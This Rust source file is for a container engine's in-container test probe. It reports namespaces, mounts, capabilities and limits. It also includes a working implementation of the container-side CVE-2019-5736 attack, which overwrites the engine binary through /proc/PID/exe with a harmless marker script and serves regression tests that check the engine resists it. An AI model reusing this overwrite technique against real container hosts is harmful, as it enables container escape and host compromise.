//! `berth-probe`: the program Berth's tests run *inside* containers to ask
//! what the container looks like from within.
//!
//! A test could run busybox's `ps`, `mount`, `id` or `ip` instead, but their
//! output formats differ between versions and hosts, and a snapshot of them
//! would break for reasons that have nothing to do with Berth. This program
//! prints each fact as stable, labelled lines, `FACT: VALUE`, in the order the
//! facts were asked for:
//!
//! ```text
//! $ berth-probe pid uid uid_map hostname read /etc/hostname
//! pid: 1
//! uid: 0/0
//! uid_map: 0 100000 65536
//! hostname: box
//! read /etc/hostname: ok box
//! ```
//!
//! It is built static (`-C target-feature=+crt-static`, see
//! `berth_test_support::probe::probe_binary`), so it runs in any rootfs, even
//! one with no libc, and it depends on nothing but `nix`, so it builds fast.
//!
//! Facts are read from the kernel's own interfaces (`/proc`, `/sys`, system
//! calls). Some are missing in some containers (no `/sys`, no
//! `/proc/sysvipc`): a fact that cannot be read prints `FACT: error ERRNO`
//! (e.g. `interfaces: error ENOENT`) and the probe carries on. Exit status: 0
//! when every fact was known, 2 for a usage error (unknown fact, `read` with no
//! path), 1 if stdout could not be written.

use std::ffi::OsString;
use std::fs;
use std::io::{self, BufRead, BufReader, Read, Write};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::MetadataExt;
use std::process::ExitCode;

use nix::errno::Errno;
use nix::sys::resource::{RLIM_INFINITY, Resource, getrlimit};
use nix::unistd::{getegid, geteuid, getgid, gethostname, getpid, getppid, getuid};

/// A fact's lines, or the name of the errno that stopped it from being read.
type Fact = Result<Vec<String>, String>;

/// What reads a fact.
type Reader = fn() -> Fact;

/// Every fact that takes no argument, in the order `--help` lists them.
const FACTS: &[(&str, Reader)] = &[
    ("pid", pid),
    ("ppid", ppid),
    ("hostname", hostname),
    ("uid", uid),
    ("gid", gid),
    ("uid_map", uid_map),
    ("gid_map", gid_map),
    ("processes", processes),
    ("interfaces", interfaces),
    ("mounts", mounts),
    ("root", root),
    ("ns", ns),
    ("cgroup", cgroup),
    ("limits", limits),
    ("caps", caps),
    ("capabilities", capabilities),
    ("no_new_privs", no_new_privs),
    ("fds", fds),
    ("cwd", cwd),
    ("env", env),
    ("sysv_shm", sysv_shm),
    ("zombies", zombies),
    ("cpus", cpus),
    ("pty", pty),
];

/// Loads for the limit tests of chapter 3: each takes a number.
/// - `hog MIB`: allocate MIB mebibytes and touch every page, then print
///   `hog: MIB MiB` (a memory limit below that gets it OOM-killed first);
/// - `fork N`: try to start N children that wait, then print how many
///   started (`forked: K of N`, with the errno that stopped it), and end them;
/// - `spin MS`: burn MS milliseconds of CPU time (not wall time), then print
///   `spun: MS ms` (a CPU quota makes that take longer and counts throttling).
const ACTIONS: &[(&str, Action)] = &[("hog", hog), ("fork", fork_children), ("spin", spin)];

/// What performs an action.
type Action = fn(u64) -> Fact;

/// `read PATH` is the one fact with an argument.
const READ: &str = "read";

/// Attempts that take a path, each printing `NAME PATH: ok` or the errno:
/// - `write PATH`: open PATH for writing, *without* writing (so a test may
///   ask whether `/proc/sys/...` is writable without changing the host);
/// - `mount PATH`: mount a tmpfs on PATH (and unmount it again).
const PATH_ACTIONS: &[(&str, PathAction)] = &[("write", open_for_writing), ("mount", mount_tmpfs)];

/// What tries a path action: `Ok(())` or the errno's name.
type PathAction = fn(&OsString) -> Result<(), String>;

/// `hijack wait|now`: the attacker's half of CVE-2019-5736, for the tests
/// that check the engine binary cannot be rewritten from a container (see
/// [`hijack`]).
const HIJACK: &str = "hijack";

/// What the command line asked for.
enum Request {
    Fact(&'static str, Reader),
    Read(OsString),
    Action(&'static str, Action, u64),
    PathAction(&'static str, PathAction, OsString),
    Hijack(bool),
}

fn main() -> ExitCode {
    let args: Vec<OsString> = std::env::args_os().skip(1).collect();
    if args.is_empty() {
        eprintln!("{}", usage());
        return ExitCode::from(2);
    }
    if args.len() == 1 && (args[0] == "-h" || args[0] == "--help") {
        println!("{}", usage());
        return ExitCode::SUCCESS;
    }
    // Check the whole command line before printing anything, so a typo does
    // not leave half an answer behind.
    let requests = match parse(args) {
        Ok(requests) => requests,
        Err(message) => {
            eprintln!("berth-probe: {message}\n{}", usage());
            return ExitCode::from(2);
        }
    };
    let mut out = io::stdout().lock();
    for request in requests {
        let lines = match request {
            Request::Fact(name, fact) => match fact() {
                Ok(lines) => lines,
                Err(errno) => vec![format!("{name}: error {errno}")],
            },
            Request::Read(path) => vec![read(&path)],
            Request::Action(name, action, n) => match action(n) {
                Ok(lines) => lines,
                Err(errno) => vec![format!("{name}: error {errno}")],
            },
            Request::Hijack(wait) => hijack(wait, &mut out),
            Request::PathAction(name, action, path) => {
                let shown = path.to_string_lossy();
                match action(&path) {
                    Ok(()) => vec![format!("{name} {shown}: ok")],
                    Err(errno) => vec![format!("{name} {shown}: {errno}")],
                }
            }
        };
        for line in lines {
            if writeln!(out, "{line}").is_err() {
                return ExitCode::from(1);
            }
        }
    }
    if out.flush().is_err() {
        return ExitCode::from(1);
    }
    ExitCode::SUCCESS
}

fn parse(args: Vec<OsString>) -> Result<Vec<Request>, String> {
    let mut requests = Vec::new();
    let mut args = args.into_iter();
    while let Some(arg) = args.next() {
        if arg == READ {
            let path = args.next().ok_or("`read` needs a PATH")?;
            requests.push(Request::Read(path));
            continue;
        }
        if arg == HIJACK {
            let wait = match args.next().as_ref().and_then(|a| a.to_str()) {
                Some("exec") => true,
                Some("init") => false,
                _ => return Err("`hijack` needs `exec` or `init`".into()),
            };
            requests.push(Request::Hijack(wait));
            continue;
        }
        if let Some(&(name, action)) = PATH_ACTIONS.iter().find(|(name, _)| arg == *name) {
            let path = args.next().ok_or(format!("`{name}` needs a PATH"))?;
            requests.push(Request::PathAction(name, action, path));
            continue;
        }
        if let Some(&(name, action)) = ACTIONS.iter().find(|(name, _)| arg == *name) {
            let n = args
                .next()
                .and_then(|n| n.to_str()?.parse().ok())
                .ok_or(format!("`{name}` needs a number"))?;
            requests.push(Request::Action(name, action, n));
            continue;
        }
        let known = FACTS.iter().find(|(name, _)| arg == *name);
        match known {
            Some(&(name, fact)) => requests.push(Request::Fact(name, fact)),
            None => return Err(format!("unknown fact {:?}", arg.to_string_lossy())),
        }
    }
    Ok(requests)
}

fn usage() -> String {
    let names: Vec<&str> = FACTS.iter().map(|(name, _)| *name).collect();
    format!(
        "usage: berth-probe FACT...\nknown facts: {} {READ} PATH write PATH mount PATH hog MIB fork N spin MS {HIJACK} exec|init",
        names.join(" ")
    )
}

/// The errno's name (`ENOENT`), the form every error line uses.
fn errno_name(e: &io::Error) -> String {
    match e.raw_os_error() {
        Some(n) => format!("{:?}", Errno::from_raw(n)),
        None => format!("{:?}", e.kind()),
    }
}

fn read_text(path: &str) -> Result<String, String> {
    fs::read_to_string(path).map_err(|e| errno_name(&e))
}

/// One output line per line of `path`, each `label: LINE`.
fn labelled_lines(path: &str, label: &str) -> Fact {
    Ok(read_text(path)?
        .lines()
        .map(|line| format!("{label}: {line}"))
        .collect())
}

/// The numeric entries of /proc: the processes this pid namespace's /proc
/// shows, sorted.
fn proc_pids() -> Result<Vec<u32>, String> {
    let entries = fs::read_dir("/proc").map_err(|e| errno_name(&e))?;
    let mut pids: Vec<u32> = entries
        .filter_map(|entry| entry.ok()?.file_name().to_str()?.parse().ok())
        .collect();
    pids.sort_unstable();
    Ok(pids)
}

// ---- the facts ----

fn pid() -> Fact {
    Ok(vec![format!("pid: {}", getpid())])
}

fn ppid() -> Fact {
    Ok(vec![format!("ppid: {}", getppid())])
}

/// uname(2)'s nodename: the UTS namespace's host name (glibc's gethostname
/// reads it from uname).
fn hostname() -> Fact {
    let name = gethostname().map_err(|e| format!("{e:?}"))?;
    Ok(vec![format!("hostname: {}", name.to_string_lossy())])
}

/// `uid: REAL/EFFECTIVE`.
fn uid() -> Fact {
    Ok(vec![format!("uid: {}/{}", getuid(), geteuid())])
}

fn gid() -> Fact {
    Ok(vec![format!("gid: {}/{}", getgid(), getegid())])
}

/// `/proc/self/uid_map` pads its columns; print `INSIDE OUTSIDE COUNT` with
/// single spaces. A user namespace whose map is not written yet has an empty
/// file: that prints `LABEL: none`.
fn id_map(path: &str, label: &str) -> Fact {
    let text = read_text(path)?;
    let lines: Vec<String> = text
        .lines()
        .filter(|line| !line.trim().is_empty())
        .map(|line| {
            format!(
                "{label}: {}",
                line.split_whitespace().collect::<Vec<_>>().join(" ")
            )
        })
        .collect();
    if lines.is_empty() {
        return Ok(vec![format!("{label}: none")]);
    }
    Ok(lines)
}

fn uid_map() -> Fact {
    id_map("/proc/self/uid_map", "uid_map")
}

fn gid_map() -> Fact {
    id_map("/proc/self/gid_map", "gid_map")
}

/// `processes: 1 5 7` and `process_count: 3` (the probe itself included).
fn processes() -> Fact {
    let pids = proc_pids()?;
    let list: Vec<String> = pids.iter().map(u32::to_string).collect();
    Ok(vec![
        format!("processes: {}", list.join(" ")),
        format!("process_count: {}", pids.len()),
    ])
}

/// `interface: NAME up|down` per entry of /sys/class/net (which shows the
/// network namespace of whoever mounted that sysfs), sorted by name. Up means
/// the IFF_UP bit of `flags` (a hex number, `0x1003`).
fn interfaces() -> Fact {
    const IFF_UP: u64 = 0x1;
    let entries = fs::read_dir("/sys/class/net").map_err(|e| errno_name(&e))?;
    let mut names: Vec<String> = entries
        .filter_map(|entry| Some(entry.ok()?.file_name().to_string_lossy().into_owned()))
        .collect();
    names.sort();
    Ok(names
        .into_iter()
        .map(|name| {
            let flags = read_text(&format!("/sys/class/net/{name}/flags")).and_then(|text| {
                let hex = text.trim().trim_start_matches("0x");
                u64::from_str_radix(hex, 16).map_err(|_| "EINVAL".to_string())
            });
            match flags {
                Ok(flags) if flags & IFF_UP != 0 => format!("interface: {name} up"),
                Ok(_) => format!("interface: {name} down"),
                Err(errno) => format!("interface: {name} error {errno}"),
            }
        })
        .collect())
}

/// `mount: MOUNTPOINT FSTYPE OPTIONS` per line of /proc/self/mountinfo, in
/// the kernel's order (mount order). mountinfo(5):
///
/// ```text
/// 36 35 98:0 /mnt1 /mnt2 rw,noatime master:1 - ext3 /dev/root rw,errors=continue
/// (1)(2)(3)   (4)   (5)      (6)     (7)   (8) (9)    (10)         (11)
/// ```
///
/// Field 5 is the mount point (spaces escaped as `\040`), 6 the per-mount
/// options, and the file system type follows the ` - ` separator (there may
/// be any number of optional fields (7) before it).
fn mounts() -> Fact {
    let text = read_text("/proc/self/mountinfo")?;
    Ok(text
        .lines()
        .map(|line| {
            let fields: Vec<&str> = line.split(' ').collect();
            let fstype = fields
                .iter()
                .skip(6)
                .position(|f| *f == "-")
                .and_then(|i| fields.get(6 + i + 1));
            match (fields.get(4), fields.get(5), fstype) {
                (Some(point), Some(options), Some(fstype)) => {
                    format!("mount: {point} {fstype} {options}")
                }
                _ => format!("mount: unparsed {line}"),
            }
        })
        .collect())
}

/// `root: DEV:INO` of `/`: equal in two processes when they share a root
/// directory (the numbers themselves vary between hosts).
fn root() -> Fact {
    let meta = fs::metadata("/").map_err(|e| errno_name(&e))?;
    Ok(vec![format!("root: {}:{}", meta.dev(), meta.ino())])
}

/// `ns: NAME INODE` for each namespace type, from the `uts:[4026531838]`
/// link in /proc/self/ns. Two processes are in the same namespace exactly
/// when the inodes are equal. A kernel without a namespace type prints
/// `ns: NAME error ENOENT`.
fn ns() -> Fact {
    const NAMESPACES: &[&str] = &["cgroup", "ipc", "mnt", "net", "pid", "user", "uts"];
    Ok(NAMESPACES
        .iter()
        .map(
            |name| match fs::read_link(format!("/proc/self/ns/{name}")) {
                Ok(target) => {
                    let target = target.to_string_lossy().into_owned();
                    let inode = target
                        .split_once('[')
                        .and_then(|(_, rest)| rest.strip_suffix(']'))
                        .unwrap_or(&target);
                    format!("ns: {name} {inode}")
                }
                Err(e) => format!("ns: {name} error {}", errno_name(&e)),
            },
        )
        .collect())
}

/// `cgroup: LINE` per line of /proc/self/cgroup (`0::/path` on cgroup v2,
/// one `ID:CONTROLLERS:/path` line per hierarchy on v1).
fn cgroup() -> Fact {
    labelled_lines("/proc/self/cgroup", "cgroup")
}

/// `limit: nofile SOFT HARD` and `limit: nproc SOFT HARD`; RLIM_INFINITY
/// prints as `unlimited`.
fn limits() -> Fact {
    let show = |value: u64| {
        if value == RLIM_INFINITY {
            "unlimited".to_string()
        } else {
            value.to_string()
        }
    };
    let mut lines = Vec::new();
    for (name, resource) in [
        ("nofile", Resource::RLIMIT_NOFILE),
        ("nproc", Resource::RLIMIT_NPROC),
    ] {
        lines.push(match getrlimit(resource) {
            Ok((soft, hard)) => format!("limit: {name} {} {}", show(soft), show(hard)),
            Err(e) => format!("limit: {name} error {e:?}"),
        });
    }
    Ok(lines)
}

/// `caps: eff=HEX`: the effective capability set, as /proc/self/status
/// shows it (`000001ffffffffff` for full root on a recent kernel).
fn caps() -> Fact {
    let status = read_text("/proc/self/status")?;
    let eff = status
        .lines()
        .find_map(|line| line.strip_prefix("CapEff:"))
        .ok_or("ENODATA")?;
    Ok(vec![format!("caps: eff={}", eff.trim())])
}

/// The kernel's capability names, by number (capabilities(7)).
const CAPABILITY_NAMES: [&str; 41] = [
    "CHOWN",
    "DAC_OVERRIDE",
    "DAC_READ_SEARCH",
    "FOWNER",
    "FSETID",
    "KILL",
    "SETGID",
    "SETUID",
    "SETPCAP",
    "LINUX_IMMUTABLE",
    "NET_BIND_SERVICE",
    "NET_BROADCAST",
    "NET_ADMIN",
    "NET_RAW",
    "IPC_LOCK",
    "IPC_OWNER",
    "SYS_MODULE",
    "SYS_RAWIO",
    "SYS_CHROOT",
    "SYS_PTRACE",
    "SYS_PACCT",
    "SYS_ADMIN",
    "SYS_BOOT",
    "SYS_NICE",
    "SYS_RESOURCE",
    "SYS_TIME",
    "SYS_TTY_CONFIG",
    "MKNOD",
    "LEASE",
    "AUDIT_WRITE",
    "AUDIT_CONTROL",
    "SETFCAP",
    "MAC_OVERRIDE",
    "MAC_ADMIN",
    "SYSLOG",
    "WAKE_ALARM",
    "BLOCK_SUSPEND",
    "AUDIT_READ",
    "PERFMON",
    "BPF",
    "CHECKPOINT_RESTORE",
];

/// `capabilities: SET NAMES` for each of the five sets of
/// /proc/self/status (bnd, prm, eff, inh, amb), names comma-separated
/// without `CAP_` (`none` for an empty set, `cap41` past the known names).
fn capabilities() -> Fact {
    let status = read_text("/proc/self/status")?;
    let mut lines = Vec::new();
    for (label, field) in [
        ("bnd", "CapBnd:"),
        ("prm", "CapPrm:"),
        ("eff", "CapEff:"),
        ("inh", "CapInh:"),
        ("amb", "CapAmb:"),
    ] {
        let bits = status
            .lines()
            .find_map(|line| line.strip_prefix(field))
            .and_then(|hex| u64::from_str_radix(hex.trim(), 16).ok())
            .ok_or("ENODATA")?;
        let names: Vec<String> = (0..64)
            .filter(|n| bits & (1u64 << n) != 0)
            .map(|n| match CAPABILITY_NAMES.get(n) {
                Some(name) => name.to_string(),
                None => format!("cap{n}"),
            })
            .collect();
        let names = if names.is_empty() {
            "none".to_string()
        } else {
            names.join(",")
        };
        lines.push(format!("capabilities: {label} {names}"));
    }
    Ok(lines)
}

/// `no_new_privs: 0|1`, from prctl(PR_GET_NO_NEW_PRIVS).
fn no_new_privs() -> Fact {
    let set = nix::sys::prctl::get_no_new_privs().map_err(|e| format!("{e:?}"))?;
    Ok(vec![format!("no_new_privs: {}", u8::from(set))])
}

/// `fds: 0 1 2`: the descriptors this process was started with (those in
/// /proc/self/fd, less the one the listing itself uses).
fn fds() -> Fact {
    let dir = fs::read_dir("/proc/self/fd").map_err(|e| errno_name(&e))?;
    let mut fds: Vec<i32> = dir
        .filter_map(|entry| entry.ok()?.file_name().to_str()?.parse().ok())
        .collect();
    fds.sort_unstable();
    // The highest is read_dir's own descriptor (opened last): drop it if it
    // no longer exists.
    // SAFETY: F_GETFD only reads a descriptor's flags; on a number that is
    // not open it fails with EBADF.
    fds.retain(|fd| unsafe { nix::libc::fcntl(*fd, nix::libc::F_GETFD) } >= 0);
    let list: Vec<String> = fds.iter().map(i32::to_string).collect();
    Ok(vec![format!("fds: {}", list.join(" "))])
}

fn open_for_writing(path: &OsString) -> Result<(), String> {
    fs::OpenOptions::new()
        .write(true)
        .open(path)
        .map(drop)
        .map_err(|e| errno_name(&e))
}

fn mount_tmpfs(path: &OsString) -> Result<(), String> {
    use nix::mount::{MsFlags, mount, umount};
    let path = std::path::Path::new(path);
    mount(
        Some("tmpfs"),
        path,
        Some("tmpfs"),
        MsFlags::empty(),
        None::<&str>,
    )
    .map_err(|e| format!("{e:?}"))?;
    let _ = umount(path);
    Ok(())
}

/// What the container would write over the engine binary: a script that,
/// run on the host, would say so.
const PAYLOAD: &[u8] = b"#!/bin/sh\necho PWNED-BY-THE-CONTAINER\n";

/// The attacker's half of CVE-2019-5736: get a descriptor of the engine
/// binary from `/proc/PID/exe`, and write [`PAYLOAD`] through it.
///
/// - `hijack exec`: print `hijack: ready`; wait (10 s at most) for a
///   process of this container whose `argv[0]` is `/proc/self/exe` (a
///   script `#!/proc/self/exe` made the kernel run the engine binary as the
///   container's process, which only the engine's own `exec` child can do);
///   open its exe, kill it, and retry the write for 10 s while the answer
///   is ETXTBSY (until the engine that ran it has exited).
/// - `hijack init`: the engine's copy that runs as the container's PID 1
///   (our init): open `/proc/1/exe` and try the write once.
///
/// Prints `hijack: holding` and `hijack: handle sealed|read-only|writable`
/// once it has a descriptor (`O_PATH`), then `hijack: wrote` or
/// `hijack: ERRNO` (`hijack: no target` if none turned up).
fn hijack(exec: bool, out: &mut impl Write) -> Vec<String> {
    use std::os::fd::AsRawFd;
    use std::time::{Duration, Instant};
    let open_exe = |pid: u32| {
        nix::fcntl::open(
            format!("/proc/{pid}/exe").as_str(),
            nix::fcntl::OFlag::O_PATH | nix::fcntl::OFlag::O_CLOEXEC,
            nix::sys::stat::Mode::empty(),
        )
    };
    let _ = writeln!(out, "hijack: ready");
    let _ = out.flush();
    let (target, exe) = if exec {
        let me = std::process::id();
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            if Instant::now() > deadline {
                return vec!["hijack: no target".into()];
            }
            let found = proc_pids().unwrap_or_default().into_iter().find_map(|pid| {
                if pid == me || pid == 1 {
                    return None;
                }
                let cmdline = fs::read(format!("/proc/{pid}/cmdline")).ok()?;
                if !cmdline.starts_with(b"/proc/self/exe\0") {
                    return None;
                }
                Some((pid, open_exe(pid).ok()?))
            });
            if let Some(found) = found {
                break found;
            }
            std::thread::sleep(Duration::from_micros(200));
        }
    } else {
        match open_exe(1) {
            Ok(exe) => (1, exe),
            Err(errno) => return vec![format!("hijack: {errno:?}")],
        }
    };
    let _ = writeln!(out, "hijack: holding");
    let _ = writeln!(out, "hijack: handle {}", handle_kind(&exe));
    let _ = out.flush();
    if exec {
        // Let the engine that ran it exit, so that its binary is not busy.
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(target as i32),
            nix::sys::signal::Signal::SIGKILL,
        );
    }
    let path = format!("/proc/self/fd/{}", exe.as_raw_fd());
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let opened = fs::OpenOptions::new()
            .write(true)
            .truncate(true)
            .open(&path);
        let result = opened.and_then(|mut file| file.write_all(PAYLOAD));
        match result {
            Ok(()) => return vec!["hijack: wrote".into()],
            Err(e)
                if exec
                    && e.raw_os_error() == Some(nix::libc::ETXTBSY)
                    && Instant::now() < deadline =>
            {
                std::thread::sleep(Duration::from_millis(20));
            }
            Err(e) => return vec![format!("hijack: {}", errno_name(&e))],
        }
    }
}

/// What an `O_PATH` descriptor of a program points at: `sealed` (a memfd
/// sealed against writes), `read-only` (a file on a read-only mount) or
/// `writable`.
fn handle_kind(exe: &std::os::fd::OwnedFd) -> &'static str {
    use nix::fcntl::{FcntlArg, OFlag, SealFlag, fcntl};
    use std::os::fd::AsFd;
    let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(exe));
    if let Ok(file) = nix::fcntl::open(
        path.as_str(),
        OFlag::O_RDONLY | OFlag::O_CLOEXEC,
        nix::sys::stat::Mode::empty(),
    ) && let Ok(seals) = fcntl(file.as_fd(), FcntlArg::F_GET_SEALS)
        && SealFlag::from_bits_truncate(seals).contains(SealFlag::F_SEAL_WRITE)
    {
        return "sealed";
    }
    match nix::sys::statvfs::fstatvfs(exe.as_fd()) {
        Ok(st) if st.flags().contains(nix::sys::statvfs::FsFlags::ST_RDONLY) => "read-only",
        _ => "writable",
    }
}

fn cwd() -> Fact {
    let dir = std::env::current_dir().map_err(|e| errno_name(&e))?;
    Ok(vec![format!("cwd: {}", dir.display())])
}

/// `env: K=V` per variable, sorted by name.
fn env() -> Fact {
    let mut vars: Vec<(OsString, OsString)> = std::env::vars_os().collect();
    vars.sort_by(|a, b| a.0.as_bytes().cmp(b.0.as_bytes()));
    Ok(vars
        .into_iter()
        .map(|(k, v)| format!("env: {}={}", k.to_string_lossy(), v.to_string_lossy()))
        .collect())
}

/// `sysv_shm: N`: the System V shared memory segments this IPC namespace
/// holds (the lines of /proc/sysvipc/shm after its header).
fn sysv_shm() -> Fact {
    let text = read_text("/proc/sysvipc/shm")?;
    let rows = text.lines().filter(|l| !l.trim().is_empty()).count();
    Ok(vec![format!("sysv_shm: {}", rows.saturating_sub(1))])
}

/// `zombies: N`: processes in /proc whose state is Z (exited, not yet reaped
/// by their parent) — what an init that does not reap leaves behind.
fn zombies() -> Fact {
    let zombies = proc_pids()?
        .into_iter()
        .filter(|pid| {
            // /proc/PID/stat is `PID (COMM) STATE ...`; COMM may hold spaces
            // and parentheses, so the state follows the *last* `)`. A process
            // that exits while we look is simply not counted.
            let Ok(stat) = fs::read_to_string(format!("/proc/{pid}/stat")) else {
                return false;
            };
            stat.rsplit_once(')')
                .is_some_and(|(_, rest)| rest.trim_start().starts_with('Z'))
        })
        .count();
    Ok(vec![format!("zombies: {zombies}")])
}

/// `read PATH: ok FIRST_LINE` (`read PATH: ok` for an empty file), or
/// `read PATH: ERRNO` — for tests of what a container can see and open.
/// Shows at most the first 200 bytes, control characters escaped (`\t`,
/// `\x00`) and `...` appended when cut, so `/dev/zero` or a binary is safe to
/// ask about.
fn read(path: &OsString) -> String {
    const SHOWN: u64 = 200;
    let shown = path.to_string_lossy();
    let first = fs::File::open(path).and_then(|file| {
        let mut line = Vec::new();
        BufReader::new(file.take(SHOWN + 1)).read_until(b'\n', &mut line)?;
        Ok(line)
    });
    match first {
        Ok(mut line) => {
            if line.last() == Some(&b'\n') {
                line.pop();
            }
            let cut = line.len() as u64 > SHOWN;
            line.truncate(SHOWN as usize);
            let mut text: String = String::from_utf8_lossy(&line)
                .chars()
                .map(|c| match c {
                    '\t' => "\\t".to_string(),
                    '\r' => "\\r".to_string(),
                    c if c.is_ascii_control() => format!("\\x{:02x}", c as u32),
                    c if c.is_control() => c.escape_default().to_string(),
                    c => c.to_string(),
                })
                .collect();
            if cut {
                text.push_str("...");
            }
            if text.is_empty() {
                format!("read {shown}: ok")
            } else {
                format!("read {shown}: ok {text}")
            }
        }
        Err(e) => format!("read {shown}: {}", errno_name(&e)),
    }
}

/// `pty: /dev/pts/0`: a new pseudo-terminal pair, both ends opened (what
/// a terminal program or `docker exec -t` needs: /dev/ptmx and a pts).
fn pty() -> Fact {
    use nix::fcntl::OFlag;
    use nix::pty::{grantpt, posix_openpt, ptsname_r, unlockpt};
    let errno = |e: Errno| format!("{e:?}");
    let master = posix_openpt(OFlag::O_RDWR | OFlag::O_NOCTTY).map_err(errno)?;
    grantpt(&master).map_err(errno)?;
    unlockpt(&master).map_err(errno)?;
    let name = ptsname_r(&master).map_err(errno)?;
    let opened = fs::OpenOptions::new().read(true).write(true).open(&name);
    opened.map_err(|e| format!("{name} {}", errno_name(&e)))?;
    Ok(vec![format!("pty: {name}")])
}

/// `cpus: 0-1`: the CPUs this process may run on (Cpus_allowed_list).
fn cpus() -> Fact {
    let status = fs::read_to_string("/proc/self/status").map_err(|e| errno_name(&e))?;
    let list = status
        .lines()
        .find_map(|l| l.strip_prefix("Cpus_allowed_list:"))
        .ok_or("ENOENT")?;
    Ok(vec![format!("cpus: {}", list.trim())])
}

fn hog(mib: u64) -> Fact {
    let mut chunks: Vec<Vec<u8>> = Vec::new();
    for _ in 0..mib {
        // Writing every page makes the kernel really allocate it.
        let mut chunk = vec![0u8; 1 << 20];
        for page in chunk.iter_mut().step_by(4096) {
            *page = 1;
        }
        chunks.push(chunk);
    }
    let total: usize = chunks.iter().map(|c| c.len() >> 20).sum();
    Ok(vec![format!("hog: {total} MiB")])
}

fn fork_children(n: u64) -> Fact {
    use nix::sys::signal::{Signal, kill};
    use nix::sys::wait::waitpid;
    use nix::unistd::{ForkResult, Pid, fork, pause};
    let mut children: Vec<Pid> = Vec::new();
    let mut stopped_by = String::from("none");
    for _ in 0..n {
        // SAFETY: the probe is single-threaded; the child only pauses until
        // it is killed.
        match unsafe { fork() } {
            Ok(ForkResult::Child) => loop {
                pause();
            },
            Ok(ForkResult::Parent { child }) => children.push(child),
            Err(errno) => {
                stopped_by = format!("{errno:?}");
                break;
            }
        }
    }
    for child in &children {
        let _ = kill(*child, Signal::SIGKILL);
        let _ = waitpid(*child, None);
    }
    Ok(vec![format!(
        "forked: {} of {n} (stopped by {stopped_by})",
        children.len()
    )])
}

fn spin(ms: u64) -> Fact {
    use nix::sys::resource::{UsageWho, getrusage};
    let used = || {
        getrusage(UsageWho::RUSAGE_SELF).map(|u| {
            let (user, sys) = (u.user_time(), u.system_time());
            (user.tv_sec() + sys.tv_sec()) as u64 * 1000
                + (user.tv_usec() + sys.tv_usec()) as u64 / 1000
        })
    };
    let start = used().map_err(|e| format!("{e:?}"))?;
    let mut x = 0u64;
    while used().map_err(|e| format!("{e:?}"))? < start + ms {
        for i in 0..10_000u64 {
            x = std::hint::black_box(x.wrapping_mul(31).wrapping_add(i));
        }
    }
    Ok(vec![format!("spun: {ms} ms")])
}
